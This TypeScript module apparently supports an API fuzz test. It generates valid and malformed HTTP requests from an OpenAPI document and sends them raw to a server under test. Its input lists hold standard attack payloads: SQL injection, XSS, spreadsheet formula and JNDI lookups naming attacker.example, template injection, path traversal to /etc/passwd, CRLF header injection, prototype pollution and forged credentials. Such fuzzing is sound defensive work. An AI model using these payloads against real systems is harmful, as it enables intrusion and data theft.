import http from 'node:http';
import fc from 'fast-check';
import { builtinInstruments } from '../../src/domain/measurement/builtin/index.ts';
import { eisToc } from '../../src/model/index.ts';
import { testPassword } from './factories.ts';
import { tailoringRegistration } from './hypothesis-data.ts';
import {
  fillPath,
  pathParameterValues,
  percentEncode,
  validValue,
  type Hints,
  type JsonSchema,
  type Operation,
  type Parameter,
} from './openapi.ts';
import type { PopulatedOrganization } from './populated-organization.ts';

/**
 * Requests generated from the OpenAPI document, valid and hostile, for an API fuzzer: what to send is
 * drawn by fast-check from a seed, so a run can be replayed; how it is sent is raw HTTP, so malformed
 * encodings, bodies and headers reach the server as written.
 */

/** A JSON fragment written into a body as is: numbers JSON.stringify cannot write, deep nesting, bad syntax. */
class RawJson {
  constructor(readonly text: string) {}
}

/** Serializes a body that may hold `RawJson` fragments. */
export function jsonText(value: unknown): string {
  if (value instanceof RawJson) return value.text;
  if (Array.isArray(value)) return `[${value.map(jsonText).join(',')}]`;
  if (value !== null && typeof value === 'object')
    return `{${Object.entries(value)
      .map(([key, v]) => `${JSON.stringify(key)}:${jsonText(v)}`)
      .join(',')}}`;
  return JSON.stringify(value) ?? 'null';
}

/** Text an attacker types into any field. */
export const hostileTexts: readonly string[] = [
  '\u0000',
  'before\u0000after',
  '\uD800',
  'lone \uDFFF low surrogate',
  '\u202Eexe.tnemucod',
  '\u200B\u200C\u200D\uFEFF',
  "'; drop table interactions; --",
  '" OR 1=1 --',
  "Robert'); DELETE FROM partners;--",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '=HYPERLINK("http://attacker.example","click")',
  '+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '${jndi:ldap://attacker.example/a}',
  '{{constructor.constructor("return process")()}}',
  '../../../../etc/passwd',
  '%00%2e%2e%2f',
  '%s%s%s%n',
  '\r\nSet-Cookie: injected=1',
  '\u0001\u0002\u001b[31m\u007f',
  'مرحبا بالعالم',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
  '😀👩‍👩‍👧‍👦🏳️‍🌈',
  '𝕿𝖊𝖝𝖙'.repeat(2_000),
  'é'.repeat(70_000),
  'x'.repeat(300_000),
  '',
  ' ',
  'null',
  'undefined',
  'NaN',
  '-1',
  '__proto__',
];

const hostileNumbers: readonly unknown[] = [
  -1,
  0,
  -0.5,
  1.5,
  2 ** 31,
  -(2 ** 31) - 1,
  Number.MAX_SAFE_INTEGER,
  new RawJson('9007199254740993'),
  1e308,
  -1e308,
  new RawJson('1e999'),
  new RawJson('-1e999'),
  new RawJson('1' + '0'.repeat(400)),
  new RawJson('0.' + '0'.repeat(400) + '1'),
  new RawJson('-0'),
  '12',
  'NaN',
  'Infinity',
];

const hostileDates: readonly string[] = [
  '2021-02-29',
  '2020-02-30',
  '2020-13-01',
  '0000-00-00',
  '0000-01-01',
  '9999-12-31',
  '+275760-09-13',
  '-000001-01-01',
  '2020-1-1',
  '2020-01-01T00:00:00Z',
  '2020-01-01 ',
  '1970-01-01',
  '１９７０-０１-０１',
];

/** Whole values of the wrong shape. */
const wrongShapes: readonly unknown[] = [
  null,
  true,
  false,
  0,
  '',
  [],
  {},
  [[[]]],
  { nested: { deeper: {} } },
  new RawJson('['.repeat(10_000) + ']'.repeat(10_000)),
  new RawJson('{"a":'.repeat(5_000) + '1' + '}'.repeat(5_000)),
  new RawJson('{"__proto__":{"role":"admin","isAdmin":true}}'),
  new RawJson('{"constructor":{"prototype":{"polluted":true}}}'),
];

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: fc.constantFrom(...hostileTexts), weight: 4 },
  { arbitrary: fc.constantFrom(...hostileNumbers), weight: 2 },
  { arbitrary: fc.constantFrom(...hostileDates), weight: 1 },
  { arbitrary: fc.constantFrom(...wrongShapes), weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 60 }), weight: 2 },
  { arbitrary: fc.string({ unit: 'binary-ascii', maxLength: 60 }), weight: 1 },
);

/** Raw bodies that are not the JSON they claim to be. */
const malformedBodies: readonly (string | Buffer)[] = [
  '',
  ' ',
  '{',
  '{"name":',
  '[1,2',
  '{"a":1}{"b":2}',
  "{'name':'single quotes'}",
  '{"name":"trailing",}',
  '{"name":"dup","name":"dup again"}',
  'null',
  '0',
  '"a string"',
  '[]',
  '\u0000',
  '\uFEFF{}',
  '{"name":"\\ud800"}',
  '{"name":"\\u0000"}',
  'NaN',
  Buffer.from([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]),
  Buffer.concat([Buffer.from('{"name":"'), Buffer.from([0xc3, 0x28, 0xed, 0xa0, 0x80]), Buffer.from('"}')]),
  'name=x&role=admin',
  '--xyz\r\nContent-Disposition: form-data; name="name"\r\n\r\nx\r\n--xyz--',
];

const contentTypes: readonly (string | undefined)[] = [
  undefined,
  '',
  'text/plain',
  'text/csv',
  'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=xyz',
  'application/xml',
  'application/json; charset=latin1',
  'application/json; charset=utf-16le',
  'APPLICATION/JSON',
  'application/json;;;',
  'application/merge-patch+json',
  'application/jsonx',
  '*/*',
];

/** Path segments already percent-encoded, some of them badly on purpose. */
const hostileSegments: readonly string[] = [
  '%00',
  'abc%00def',
  '%ED%A0%80',
  '%FF%FE',
  '%zz',
  '%',
  '..',
  '.',
  '%2e%2e',
  '%2F..%2F',
  'x'.repeat(65),
  'y'.repeat(5_000),
  '%E2%80%AE',
  percentEncode("'; drop table partners; --"),
  percentEncode('<script>alert(1)</script>'),
  '-1',
  '0',
  '1e999',
  'NaN',
  'null',
  '%20',
  percentEncode('😀'.repeat(30)),
  '__proto__',
  'constructor',
];

const oddHeaders: readonly Record<string, string>[] = [
  { accept: 'application/xml' },
  { accept: '*/*;q=0' },
  { 'accept-encoding': 'gzip, deflate, br' },
  { 'accept-language': 'x'.repeat(4_000) },
  { 'x-request-id': 'r'.repeat(2_000) },
  { 'x-request-id': '../../etc/passwd' },
  { 'x-request-id': '\u00ff\u00fe\u00e9' },
  { 'x-forwarded-for': '127.0.0.1, <script>, ::1' },
  { 'x-forwarded-proto': 'javascript' },
  { 'x-forwarded-host': 'attacker.example' },
  { origin: 'https://attacker.example' },
  { referer: 'https://attacker.example/' },
  { 'content-encoding': 'gzip' },
  { 'if-none-match': '*' },
  { range: 'bytes=0-0' },
  { 'x-http-method-override': 'DELETE' },
  { cookie: 'praxis_session=forged-session-value' },
  { cookie: 'praxis_session=' + 's'.repeat(3_000) },
  { authorization: 'Bearer' },
  { authorization: 'Basic YWRtaW46YWRtaW4=' },
  { authorization: 'Bearer prx_' + 't'.repeat(5_000) },
  { authorization: 'bearer  prx_  ' },
  { 'x-csrf-token': 'forged' },
  { 'x-csrf-token': '' },
];

/** How a request authenticates: the administrator's session (with its CSRF token), their API token, or not at all. */
export type Credentials = 'session' | 'token' | 'none';

/** One request drawn by the fuzzer, in the words of the operation it aims at. */
export interface FuzzRequest {
  operation: string;
  method: string;
  /** The path and query, encoded as sent. */
  url: string;
  credentials: Credentials;
  headers: Record<string, string>;
  body?: string | Buffer;
  /** What was done to the request: `valid`, or the malformations applied. */
  malformations: string[];
}

/** Values meaningful for fields and parameters of these names in the populated organization. */
export function fieldHints(organization: PopulatedOrganization, instrumentDocument: unknown): Hints {
  const { records } = organization;
  const components = eisToc.components.map((c) => c.id);
  const aim = Object.fromEntries(builtinInstruments.filter((i) => i.id === 'aim-support').map((i) => [i.id, {}]));
  return {
    engagementId: records.engagements,
    partnerId: records.partners,
    parentId: records.partners,
    contactId: records.contacts,
    contactIds: records.contacts,
    userId: records.users,
    ispId: records.users,
    loggedBy: records.users,
    supportTeam: records.users,
    componentId: components,
    components,
    activityIds: eisToc.components.flatMap((c) => c.activities.map((a) => a.id)),
    principleId: eisToc.principles.map((p) => p.id),
    stageId: eisToc.stages.map((s) => s.id),
    outcomeId: eisToc.outcomes.map((o) => o.id),
    linkId: eisToc.links.map((l) => l.id),
    modelId: records.models,
    modelVersion: ['1.0.0'],
    instrumentId: records.instruments,
    version: [1, 2, 3, '1.0.0'],
    region: [`${organization.marker} region`],
    language: ['en', 'es'],
    email: [organization.admin.email, `new.person@example.org`],
    password: [testPassword],
    answers: [
      { 'aim-support': { 'aim-1': 4, 'aim-2': 5, 'aim-3': 3, 'aim-4': 4 } },
      { 'aim-support': { 'aim-1': 4 } },
      aim,
    ],
    document: [{ ...eisToc, id: 'fuzzed-model' }, { ...eisToc, version: '1.1.0' }, instrumentDocument],
    registration: [tailoringRegistration],
  };
}

const pick = <T>(values: readonly T[]): fc.Arbitrary<T> => fc.constantFrom(...values);

/** Every place in a JSON value: the path to it, for a mutation to aim at. */
function placesIn(value: unknown, path: (string | number)[] = []): (string | number)[][] {
  const here = [path];
  if (Array.isArray(value)) return [...here, ...value.flatMap((v, i) => placesIn(v, [...path, i]))];
  if (value !== null && typeof value === 'object')
    return [...here, ...Object.entries(value).flatMap(([k, v]) => placesIn(v, [...path, k]))];
  return here;
}

function replaceAt(value: unknown, path: (string | number)[], replacement: (current: unknown) => unknown): unknown {
  // A path an earlier change cut short ends here.
  if (path.length === 0 || value === null || typeof value !== 'object') return replacement(value);
  const [head, ...rest] = path;
  if (Array.isArray(value)) return value.map((v, i) => (i === head ? replaceAt(v, rest, replacement) : v));
  const record = value as Record<string, unknown>;
  return { ...record, [head!]: replaceAt(record[head!], rest, replacement) };
}

type Mutation = { label: string; apply: (current: unknown) => unknown };

/** One change that makes a valid value invalid somewhere. */
const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  hostileValue.map((v) => ({ label: 'hostile value', apply: () => v })),
  fc.constant({
    label: 'field removed',
    apply: (current: unknown) => {
      if (current === null || typeof current !== 'object' || Array.isArray(current)) return undefined;
      const [first] = Object.keys(current);
      const { [first ?? '']: _removed, ...rest } = current as Record<string, unknown>;
      return rest;
    },
  }),
  fc.tuple(pick(['extra', 'role', 'organizationId', 'id', 'deletedAt', '__proto__']), hostileValue).map(([key, v]) => ({
    label: `extra field ${key}`,
    apply: (current: unknown) =>
      current !== null && typeof current === 'object' && !Array.isArray(current) ? { ...current, [key]: v } : current,
  })),
  // Past every documented limit (the largest is 500 items).
  pick([101, 501, 1_001, 5_000]).map((n) => ({
    label: `array of ${n}`,
    apply: (current: unknown) => {
      const element = Array.isArray(current) ? current[0] : current;
      // Many copies of a small element: a long array, not a body far past the size limit.
      const small = element !== undefined && jsonText(element).length <= 200 ? element : 'x';
      return Array.from({ length: n }, () => small);
    },
  })),
  // Just past the common text limits, far past the largest field, and past the body limit.
  pick([65, 201, 501, 20_001, 300_000, 1_048_577]).map((n) => ({
    label: `string of ${n}`,
    apply: () => 'w'.repeat(n),
  })),
);

/** A JSON body for an operation: valid, mutated at some places, or not JSON at all. */
function bodyArbitrary(
  schema: JsonSchema,
  hints: Hints,
): fc.Arbitrary<{ text: string | Buffer; malformations: string[] }> {
  const valid = validValue(schema, hints);
  const mutated = valid.chain((value) =>
    fc.array(fc.tuple(fc.nat(), mutation), { minLength: 1, maxLength: 3 }).map((changes) => {
      const places = placesIn(value);
      let body = value;
      for (const [where, change] of changes) body = replaceAt(body, places[where % places.length]!, change.apply);
      return { text: jsonText(body ?? null), malformations: changes.map(([, c]) => c.label) };
    }),
  );
  return fc.oneof(
    { arbitrary: valid.map((value) => ({ text: jsonText(value), malformations: [] })), weight: 5 },
    { arbitrary: mutated, weight: 6 },
    { arbitrary: pick(malformedBodies).map((text) => ({ text, malformations: ['malformed body'] })), weight: 2 },
  );
}

/** A query string: valid values of the documented parameters, or hostile ones, unknown ones, repeated ones. */
function queryArbitrary(
  parameters: Parameter[],
  hints: Hints,
): fc.Arbitrary<{ query: string; malformations: string[] }> {
  const valid = fc.record(Object.fromEntries(parameters.map((p) => [p.name, validValue(p.schema, hints, p.name)])), {
    requiredKeys: parameters.filter((p) => p.required).map((p) => p.name),
  });
  const encodePair = (name: string, value: unknown): string[] =>
    Array.isArray(value)
      ? value.flatMap((v) => encodePair(name, v))
      : [`${percentEncode(name)}=${percentEncode(value instanceof RawJson ? value.text : String(value))}`];
  const names = parameters.map((p) => p.name);
  const oddPair: fc.Arbitrary<{ pair: string; label: string }> = fc.oneof(
    fc.tuple(names.length > 0 ? pick(names) : fc.constant('unknown'), hostileValue).map(([name, v]) => ({
      pair: encodePair(name, typeof v === 'object' && !(v instanceof RawJson) ? JSON.stringify(v) : v)[0]!,
      label: `hostile query ${name}`,
    })),
    fc.tuple(names.length > 0 ? pick(names) : fc.constant('unknown'), pick(hostileSegments)).map(([name, raw]) => ({
      pair: `${percentEncode(name)}=${raw}`,
      label: `raw query ${name}`,
    })),
    pick(['unknown=1', '__proto__=x', 'constructor[prototype][x]=1', '&&==&', '%zz=1', 'a'.repeat(3_000) + '=1']).map(
      (pair) => ({ pair, label: 'odd query' }),
    ),
  );
  return fc.oneof(
    {
      arbitrary: valid.map((q) => ({
        query: Object.entries(q)
          .flatMap(([k, v]) => encodePair(k, v))
          .join('&'),
        malformations: [],
      })),
      weight: 4,
    },
    {
      arbitrary: fc.tuple(valid, fc.array(oddPair, { minLength: 1, maxLength: 3 })).map(([q, odd]) => ({
        query: [...Object.entries(q).flatMap(([k, v]) => encodePair(k, v)), ...odd.map((o) => o.pair)].join('&'),
        malformations: odd.map((o) => o.label),
      })),
      weight: 2,
    },
  );
}

/** File bodies for operations whose body the document does not describe as JSON (the interaction import). */
export interface FileBody {
  contentType: string;
  text: string;
}

/** The arbitrary of requests to one operation. */
export function requestArbitrary(
  operation: Operation,
  organization: PopulatedOrganization,
  hints: Hints,
  fileBodies: readonly FileBody[],
): fc.Arbitrary<FuzzRequest> {
  const segments = fc.record(
    Object.fromEntries(
      operation.pathParameters.map((p) => {
        const known = pathParameterValues(operation.path, p.name, organization) ?? [];
        const valid =
          known.length > 0
            ? pick(known.map(percentEncode))
            : fc.string({ minLength: 1, maxLength: 20 }).map(percentEncode);
        return [
          p.name,
          fc.oneof(
            { arbitrary: valid.map((value) => ({ value, odd: false })), weight: 12 },
            { arbitrary: pick(hostileSegments).map((value) => ({ value, odd: true })), weight: 1 },
          ),
        ];
      }),
    ),
  );
  const sendsBody = ['POST', 'PUT', 'PATCH'].includes(operation.method);
  const body: fc.Arbitrary<{ text?: string | Buffer; contentType?: string; malformations: string[] }> = operation.body
    ? bodyArbitrary(operation.body.schema, hints).map((b) => ({ ...b, contentType: 'application/json' }))
    : sendsBody && fileBodies.length > 0
      ? fc.oneof(
          pick(fileBodies).map((f) => ({ text: f.text, contentType: f.contentType, malformations: [] })),
          fc.tuple(pick(fileBodies), fc.nat(), pick(hostileTexts)).map(([f, at, text]) => {
            const cut = at % (f.text.length + 1);
            return {
              text: f.text.slice(0, cut) + text + f.text.slice(cut),
              contentType: f.contentType,
              malformations: ['hostile text in file'],
            };
          }),
          pick(malformedBodies).map((text) => ({ text, contentType: 'text/csv', malformations: ['malformed file'] })),
        )
      : fc.oneof(
          { arbitrary: fc.constant({ malformations: [] as string[] }), weight: 6 },
          {
            arbitrary: pick(malformedBodies).map((text) => ({
              text,
              contentType: 'application/json',
              malformations: ['unexpected body'],
            })),
            weight: 1,
          },
        );
  return fc
    .record({
      segments,
      query: queryArbitrary(operation.queryParameters, hints),
      body,
      contentType: fc.oneof({ arbitrary: fc.constant(null), weight: 10 }, { arbitrary: pick(contentTypes), weight: 1 }),
      headers: fc.oneof({ arbitrary: fc.constant(null), weight: 10 }, { arbitrary: pick(oddHeaders), weight: 1 }),
      credentials: fc.oneof(
        { arbitrary: fc.constant<Credentials>('session'), weight: 6 },
        { arbitrary: fc.constant<Credentials>('token'), weight: 4 },
        { arbitrary: fc.constant<Credentials>('none'), weight: 1 },
      ),
    })
    .map(({ segments: s, query, body: b, contentType, headers, credentials }) => {
      const malformations = [
        ...Object.entries(s)
          .filter(([, v]) => v.odd)
          .map(([name]) => `hostile path ${name}`),
        ...query.malformations,
        ...b.malformations,
      ];
      const path = fillPath(operation.path, Object.fromEntries(Object.entries(s).map(([k, v]) => [k, v.value])));
      const requestHeaders: Record<string, string> = { ...(headers ?? {}) };
      const type = contentType === null ? b.contentType : contentType;
      if (contentType !== null) malformations.push(`content-type ${JSON.stringify(contentType)}`);
      if (headers) malformations.push(`header ${Object.keys(headers).join(',')}`);
      if (b.text !== undefined && type !== undefined) requestHeaders['content-type'] = type;
      return {
        operation: operation.key,
        method: operation.method,
        url: query.query ? `${path}?${query.query}` : path,
        credentials,
        headers: requestHeaders,
        ...(b.text !== undefined ? { body: b.text } : {}),
        malformations: malformations.length > 0 ? malformations : ['valid'],
      };
    });
}

export interface Answer {
  status: number;
  headers: http.IncomingHttpHeaders;
  body: string;
}

/**
 * Sends a request as written (no normalization of the path, the headers or the body) on a connection of
 * its own, so one request's malformation never spoils the next, and reads the whole answer.
 */
export function send(
  baseUrl: string,
  request: { method: string; url: string; headers: Record<string, string>; body?: string | Buffer },
): Promise<Answer> {
  const { hostname, port } = new URL(baseUrl);
  return new Promise((resolve, reject) => {
    // Framed by its length whatever the method: Node sends a GET or DELETE body unframed otherwise, and
    // the server rightly reads it as a second request.
    const headers =
      request.body === undefined
        ? request.headers
        : { ...request.headers, 'content-length': String(Buffer.byteLength(request.body)) };
    const outgoing = http.request(
      { host: hostname, port, method: request.method, path: request.url, headers, agent: false, timeout: 60_000 },
      (response) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () =>
          resolve({
            status: response.statusCode ?? 0,
            headers: response.headers,
            body: Buffer.concat(chunks).toString('utf8'),
          }),
        );
        response.on('error', reject);
      },
    );
    outgoing.on('timeout', () => outgoing.destroy(new Error('no answer within 60 s')));
    outgoing.on('error', reject);
    if (request.body !== undefined) outgoing.end(request.body);
    else outgoing.end();
  });
}

/** A short, printable account of a request, for a report of failures. */
export function describeRequest(request: FuzzRequest): string {
  const excerpt = (text: string | Buffer | undefined): string => {
    if (text === undefined) return '(no body)';
    const s = typeof text === 'string' ? text : `<bytes ${text.toString('hex').slice(0, 80)}>`;
    return JSON.stringify(s.length > 300 ? `${s.slice(0, 300)}… (${s.length} chars)` : s);
  };
  const url = request.url.length > 300 ? `${request.url.slice(0, 300)}… (${request.url.length} chars)` : request.url;
  return [
    `${request.method} ${url}`,
    `  operation: ${request.operation}; credentials: ${request.credentials}; ${request.malformations.join('; ')}`,
    `  headers: ${JSON.stringify(request.headers).slice(0, 300)}`,
    `  body: ${excerpt(request.body)}`,
  ].join('\n');
}
